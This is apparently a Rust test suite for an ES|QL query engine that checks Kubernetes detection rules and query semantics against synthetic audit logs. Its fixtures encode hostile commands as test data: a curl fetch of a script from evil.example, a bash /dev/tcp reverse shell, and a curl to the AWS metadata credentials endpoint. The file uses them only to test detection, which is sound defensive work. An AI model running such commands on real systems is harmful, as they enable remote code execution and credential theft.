//! Semantics of corpus rules beyond the seeds: the pod-exec rules (URL_DECODE, GROK, REPLACE,
//! RLIKE with Lucene operators), KQL() over request/response objects, NOW() windows; plus
//! INLINE STATS, DISSECT, MV_EXPAND and KEEP precedence on small documents.

use std::path::Path;

use events::{Catalog, Document, Value};

const RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/elastic-rules/kubernetes"
);

fn rule(name: &str) -> esql::Query {
    let text = std::fs::read_to_string(Path::new(RULES).join(format!("{name}.toml"))).unwrap();
    let doc: toml::Table = toml::from_str(&text).unwrap();
    esql::compile(doc["rule"]["query"].as_str().unwrap(), &Catalog::ecs()).unwrap()
}

fn ctx() -> esql::ExecContext {
    esql::ExecContext {
        now_nanos: events::time::parse_timestamp("2025-03-04T06:30:00Z").unwrap(),
    }
}

fn doc(id: &str, json: &str) -> Document {
    let mut d = Document::from_json(json).unwrap();
    d.id = id.to_string();
    d
}

fn exec_doc(id: &str, query: &str) -> Document {
    doc(
        id,
        &format!(
            r#"{{"@timestamp":"2025-03-04T06:22:18Z","kubernetes":{{"audit":{{"objectRef":{{"subresource":"exec"}},
               "requestURI":"/api/v1/namespaces/default/pods/web-1/exec?{query}&container=web&stdin=true&stdout=true"}}}}}}"#
        ),
    )
}

fn col<'a>(r: &'a esql::QueryResult, row: usize, name: &str) -> &'a Value {
    let i = r.columns.iter().position(|c| c.name == name).unwrap();
    &r.rows[row][i]
}

#[test]
fn curl_https_exec_is_decoded_and_matched() {
    let q = rule("execution_kubernetes_pod_exec_curl_wget_https");
    let hit = exec_doc(
        "a",
        "command=sh&command=-c&command=curl%20-s%20https%3A%2F%2Fevil.example%2Fx.sh",
    );
    let health = exec_doc("b", "command=curl&command=https%3A%2F%2Flocalhost%2Fhealthz");
    let plain = exec_doc("c", "command=ls");
    let r = esql::run(&q, [&hit, &health, &plain], ctx());
    assert_eq!(r.rows.len(), 1, "{:?}", r.rows);
    assert_eq!(
        col(&r, 0, "Esql.executed_command"),
        &Value::from("sh -c curl -s https://evil.example/x.sh")
    );
    assert_eq!(r.provenance[0].event_ids, vec!["a"]);
    assert!(q.prefilter(&hit));
    assert!(!q.prefilter(&doc(
        "x",
        r#"{"kubernetes":{"audit":{"objectRef":{"subresource":"log"}}}}"#
    )));
}

#[test]
fn cloud_metadata_exec_is_classified() {
    let q = rule("credential_access_kubernetes_pod_exec_cloud_instance_metadata");
    let d = exec_doc(
        "a",
        "command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
    );
    let r = esql::run(&q, [&d], ctx());
    assert_eq!(r.rows.len(), 1);
    assert_eq!(col(&r, 0, "Esql.cloud_target"), &Value::from("AWS_IMDS"));
    assert_eq!(col(&r, 0, "Esql.is_credential_theft"), &Value::from("yes"));
}

#[test]
fn reverse_shell_rule_uses_lucene_semantics() {
    let q = rule("execution_kubernetes_pod_exec_potential_reverse_shell");
    let tcp = exec_doc(
        "a",
        "command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4444%200%3E%261",
    );
    let local = exec_doc(
        "b",
        "command=bash&command=-c&command=cat%20%3C%2Fdev%2Ftcp%2Flocalhost%2F8080",
    );
    let r = esql::run(&q, [&tcp, &local], ctx());
    assert_eq!(r.rows.len(), 1);
    assert_eq!(r.provenance[0].event_ids, vec!["a"]);
}

#[test]
fn kql_over_response_object_rules() {
    let q = rule("privilege_escalation_role_patch_wildcard_verbs_resources_response");
    let base = |id: &str, verbs: &str| {
        doc(
            id,
            &format!(
                r#"{{"kubernetes":{{"audit":{{"objectRef":{{"resource":"clusterroles","name":"x"}},"verb":"patch",
                   "annotations":{{"authorization_k8s_io/decision":"allow"}},"level":"RequestResponse",
                   "stage":"ResponseComplete","sourceIPs":["10.0.0.9"],
                   "responseObject":{{"rules":[{{"verbs":{verbs},"resources":["*"]}}]}}}}}},
                   "user":{{"name":"mallory"}}}}"#
            ),
        )
    };
    let wild = base("a", r#"["*"]"#);
    let narrow = base("b", r#"["get","list"]"#);
    let r = esql::run(&q, [&wild, &narrow], ctx());
    assert_eq!(r.rows.len(), 1, "{:?}", r.rows);
    assert_eq!(col(&r, 0, "_id"), &Value::from("a"));
    assert_eq!(col(&r, 0, "user.name"), &Value::from("mallory"));
}

#[test]
fn now_window_filters_aggregates() {
    let q = rule("credential_access_azure_arc_proxy_secret_configmap_access");
    let d = |id: &str, ts: &str| {
        doc(
            id,
            &format!(
                r#"{{"@timestamp":"{ts}","kubernetes":{{"audit":{{"user":{{"username":"system:serviceaccount:azure-arc:proxy"}},
                   "objectRef":{{"resource":"secrets","namespace":"prod","name":"db"}},"verb":"get",
                   "impersonatedUser":{{"username":"alice"}}}}}}}}"#
            ),
        )
    };
    let recent = d("a", "2025-03-04T06:25:00Z");
    let old = d("b", "2025-03-04T06:00:00Z");
    assert_eq!(esql::run(&q, [&recent], ctx()).rows.len(), 1);
    assert!(
        esql::run(&q, [&old, &recent], ctx()).rows.is_empty(),
        "first seen is too old"
    );
}

fn row_query(q: &str) -> esql::QueryResult {
    let q = esql::compile(q, &Catalog::new()).unwrap();
    esql::run(&q, std::iter::empty(), ctx())
}

#[test]
fn dissect_mv_expand_and_inline_stats() {
    let r = row_query(
        r#"ROW a = "1.2.3.4 GET /x 200" | DISSECT a "%{ip} %{verb} %{path} %{code}" | KEEP ip, code"#,
    );
    assert_eq!(r.rows, vec![vec![Value::from("1.2.3.4"), Value::from("200")]]);
    let r = row_query("ROW a = [1, 2, 3], b = \"x\" | MV_EXPAND a | STATS n = COUNT(*), s = SUM(a) BY b");
    assert_eq!(r.rows, vec![vec![Value::Int(3), Value::Int(6), Value::from("x")]]);
    let r = row_query(
        "ROW a = [1, 2, 3], b = \"x\" | MV_EXPAND a | INLINE STATS m = MAX(a) BY b | KEEP a, m | SORT a",
    );
    assert_eq!(
        r.rows,
        vec![
            vec![Value::Int(1), Value::Int(3)],
            vec![Value::Int(2), Value::Int(3)],
            vec![Value::Int(3), Value::Int(3)]
        ]
    );
}

#[test]
fn keep_wildcard_precedence() {
    // the more specific pattern decides a column's position
    let r = row_query("ROW a1 = 1, a2 = 2, b = 3 | KEEP a*, b, a1");
    let names: Vec<&str> = r.columns.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, vec!["a2", "b", "a1"]);
}

#[test]
fn grok_typed_captures() {
    let r = row_query(r#"ROW a = "took 42 ms" | GROK a "took %{NUMBER:ms:int} ms" | KEEP ms"#);
    assert_eq!(r.columns[0].data_type, "integer");
    assert_eq!(r.rows, vec![vec![Value::Int(42)]]);
}

#[test]
fn sort_where_limit_and_sort_before_stats() {
    let r = row_query("ROW a = [3, 1, 2] | MV_EXPAND a | SORT a DESC | WHERE a < 3 | LIMIT 1");
    assert_eq!(r.rows, vec![vec![Value::Int(2)]]);
    let r = row_query("ROW a = [3, 1, 2] | MV_EXPAND a | SORT a | STATS m = MAX(a)");
    assert_eq!(r.rows, vec![vec![Value::Int(3)]]);
    let r = row_query("ROW a = [1, 2], b = [\"x\", \"y\", \"z\"] | EVAL z = MV_ZIP(a, b, \"-\")");
    assert_eq!(
        r.rows[0][2],
        Value::Array(vec![Value::from("1-x"), Value::from("2-y"), Value::from("z")])
    );
}

#[test]
fn to_lower_maps_multi_values() {
    // ES|QL reference, TO_LOWER: `ROW v = TO_LOWER(["Some", "Text"])` is `["some", "text"]`
    let r = row_query(r#"ROW v = TO_LOWER(["Some", "Text"]), u = TO_UPPER("a")"#);
    assert_eq!(
        r.rows,
        vec![vec![
            Value::Array(vec![Value::from("some"), Value::from("text")]),
            Value::from("A")
        ]]
    );
}
